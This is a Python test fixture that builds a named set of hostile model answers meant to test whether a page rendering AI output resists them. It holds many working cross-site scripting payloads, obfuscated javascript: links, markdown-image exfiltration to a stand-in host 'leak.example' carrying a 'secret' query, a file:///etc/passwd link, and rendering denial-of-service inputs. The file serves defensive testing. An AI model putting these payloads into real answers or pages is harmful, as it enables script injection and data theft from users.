"""Answers of a model that means harm, by name: what a page must survive.

Each tries to run a script, to load something, or to break the page around it. What
runs would set ``window.owned``; what loads would ask LEAK.
``python hostile_answers.py PATH`` writes them as JSON, as the stand-in server's option
``texts`` takes them; a question that is a name is then answered with that text.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

LEAK = "leak.example"
"""No page may ask this host for anything."""

_RUN = "window.owned=1"
_URL = f"https://{LEAK}"
_CHART = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"

_TAGS = {
    "script": f"<script>{_RUN}</script>",
    "script_src": f'<script src="{_URL}/a.js"></script>',
    "script_case": f"<ScRiPt/x>{_RUN}</sCrIpT >",
    "script_nested": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script_unclosed": f"<script>{_RUN}//",
    "image_error": f'<img src=x onerror="{_RUN}">',
    "image_slashes": f'<img/src="x"/onerror={_RUN}>',
    "image_remote": f'<img src="{_URL}/a.png">',
    "svg": f'<svg onload="{_RUN}"><script>{_RUN}</script></svg>',
    "svg_use": f'<svg><use href="{_CHART}"/></svg>',
    "svg_animate": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "math": f'<math><mtext><mglyph><style><img src=x onerror="{_RUN}">',
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "template": f"<template><img src=x onerror={_RUN}></template>",
    "iframe": '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    "iframe_remote": f'<iframe src="{_URL}/"></iframe>',
    "object": f'<object data="{_URL}/a"></object><embed src="{_URL}/a">',
    "style": f"<style>*{{display:none}}@import url({_URL}/a.css)</style>",
    "style_attribute": f'<p style="background:url({_URL}/a);position:fixed">a</p>',
    "link": f'<link rel="stylesheet" href="{_URL}/a.css">',
    "base": f'<base href="{_URL}/">[relative](a)',
    "refresh": f'<meta http-equiv="refresh" content="0;url={_URL}/">',
    "form": f'<form action="{_URL}/"><button formaction="javascript:{_RUN}">Go',
    "autofocus": f"<input autofocus onfocus={_RUN}><select autofocus onfocus={_RUN}>",
    "details": f"<details open ontoggle={_RUN}><summary>a",
    "media": f"<video src={_URL}/a onerror={_RUN}><audio src={_URL}/b>",
    "clobber": '<form id="Jupyter" name="kernel"><input name="cookie" id="body">',
    "comment": f"<!--><img src=x onerror={_RUN}>-->",
    "cdata": f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    "closing_tags": "</div></p></pre></td></table></body></html><plaintext>",
    "entity_tags": f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;img src=x&#62;",
    "null_in_tag": f"<scr\x00ipt>{_RUN}</scr\x00ipt><img\x0csrc=x\x0bonerror={_RUN}>",
}

_LINKS = {
    "javascript": f"[click](javascript:{_RUN})",
    "javascript_case": f"[click](JaVaScRiPt:{_RUN})",
    "javascript_entity": f"[click](javascript&colon;{_RUN})",
    "javascript_number": f"[click](&#106;avascript:{_RUN})",
    "javascript_tab": f"[click](<java\tscript:{_RUN}>) [b](java&#9;script:{_RUN})",
    "javascript_line": f"[click](java&NewLine;script:{_RUN})",
    "javascript_control": f"[click](\x01javascript:{_RUN}) [b](&#1;javascript:{_RUN})",
    "javascript_space": f"[click](< javascript:{_RUN}>) [b](&#32;javascript:{_RUN})",
    "javascript_percent": f"[click](javascript%3A{_RUN})",
    "javascript_autolink": f"<javascript:{_RUN}>",
    "javascript_after_http": f"[click](javascript:{_RUN}//http://a.b)",
    "vbscript": f"[click](vbscript:{_RUN})",
    "data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "file": "[click](file:///etc/passwd) [b](blob:https://a.b/c) [c](about:blank)",
    "relative": "[click](/api/shutdown) [b](../tree) [c](?a) [d](#id) [e]()",
    "no_scheme": f"[click](//{LEAK}/a) [b](\\\\{LEAK}\\a)",
    "attribute_end": f'[click](https://a.b/"onmouseover="{_RUN}) [b](https://a.b/><img)',
    "title": f'[click](https://a.b "x\\" onmouseover={_RUN} y=\\"")',
    "reference": f"[click][a]\n\n[a]: javascript:{_RUN}\n[b]: {_URL}/a.png",
    "user_name": f"[bank](https://bank.example@{LEAK}/)",
}

_IMAGES = {
    "image": f"![a]({_URL}/a.png)",
    "image_query": f'![a]({_URL}/?secret=everything "b")',
    "image_reference": f"![a]\n\n![b][a]\n\n[a]: {_URL}/a.png",
    "image_in_link": f"[![a]({_URL}/a.png)]({_URL}/)",
    "image_in_table": f"|a|\n|-|\n|![b]({_URL}/a.png)|",
    "image_data": f"![a]({_CHART})",
}

_LAYOUT = {
    "line_of_a_megabyte": "a" * 1_000_000,
    "words_of_a_megabyte": "word " * 200_000,
    "code_line_of_a_megabyte": "```\n" + "x" * 1_000_000,
    "many_lines": "line\n" * 100_000,
    "wide_table": "|a" * 3000 + "|\n" + "|-" * 3000 + "|\n" + "|b" * 3000 + "|\n",
    "made_up_cells": "|a" * 900 + "\n" + "|-" * 900 + "\n" + "|\n" * 20_000,
    "tall_letters": "Z" + "\u0301\u0316" * 500 + "algo",
    "right_to_left": "safe \u202egnp.exe\u202c \u2067turned\u2069 \u200fmarks \u061c.",
    "right_to_left_open": "\u202e\u2066\u202b everything after this is turned",
    "arabic": "مرحبا **بالعالم**، هذا نص عربي.\n\n- שלום\n- hello",
    "emoji": "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ❤️ नमस्ते ไทย",
    "controls": "bell\x07 escape\x1b[31m red \x1b]0;title\x07 back\b\b\x7f null\x00",
    "surrogates": "half \ud83d of a letter \ude00",
    "line_ends": "one\r\ntwo\rthree\u2028four\u2029five\x85six",
    "unclosed_fence": "Look:\n\n```html\n<img src=x onerror=window.owned=1>\n",
    "unclosed_tilde_fence": "~~~~js\nlet a = '</code></pre><script>'\n~~~",
    "fence_language": f'```"><script>{_RUN}</script>\ncode\n```',
    "fence_entity": f"```&quot;&gt;&lt;img src=x onerror={_RUN}&gt;\ncode\n```",
    "fence_in_list": "- a\n  ```\n  code\nout\n\nafter",
    "unclosed_emphasis": "**bold *and `code [and](https://a.b",
    "formula": f"$$\\href{{javascript:{_RUN}}}{{x}}$$ \\(\\style{{a}}{{b}}\\)",
    "think": f"<think><img src=x onerror={_RUN}></think><script>{_RUN}</script>",
    "think_unclosed": f"<think>\n<img src=x onerror={_RUN}>",
}

_SLOW = {
    "deep_quotes": "> " * 10_000 + "a",
    "deep_quotes_tight": ">" * 10_000 + "a",
    "deep_lists": "- " * 10_000 + "a",
    "deep_list_lines": "\n".join("  " * depth + "- a" for depth in range(500)),
    "deep_brackets": "[" * 10_000 + "a" + "](b)" * 10_000,
    "deep_images": "![" * 10_000,
    "deep_emphasis": "*" * 10_000 + "a" + "*" * 10_000,
    "open_emphasis": "*a **a " * 10_000,
    "backticks": "".join("a" + "`" * count for count in range(300)),
    "links": "[a](" * 10_000,
    "link_addresses": "[a](<b" * 10_000,
    "entities": "&" * 50_000 + "&#x" * 10_000,
    "less_than": "<" * 50_000 + "<a:" * 10_000,
    "strikes": "~~a " * 10_000,
    "backslashes": "\\" * 100_000,
    "rules": "- - " * 20_000,
    "table_rows": "|a|b|\n|-|-|\n" + "|a|b|\n" * 10_000,
    "definitions": "".join(f"[a{number}]: <b>\n" for number in range(5000)),
}

ANSWERS: dict[str, str] = {**_TAGS, **_LINKS, **_IMAGES, **_LAYOUT, **_SLOW}
"""All of them, by name."""

if __name__ == "__main__":
    Path(sys.argv[1]).write_text(json.dumps(ANSWERS))
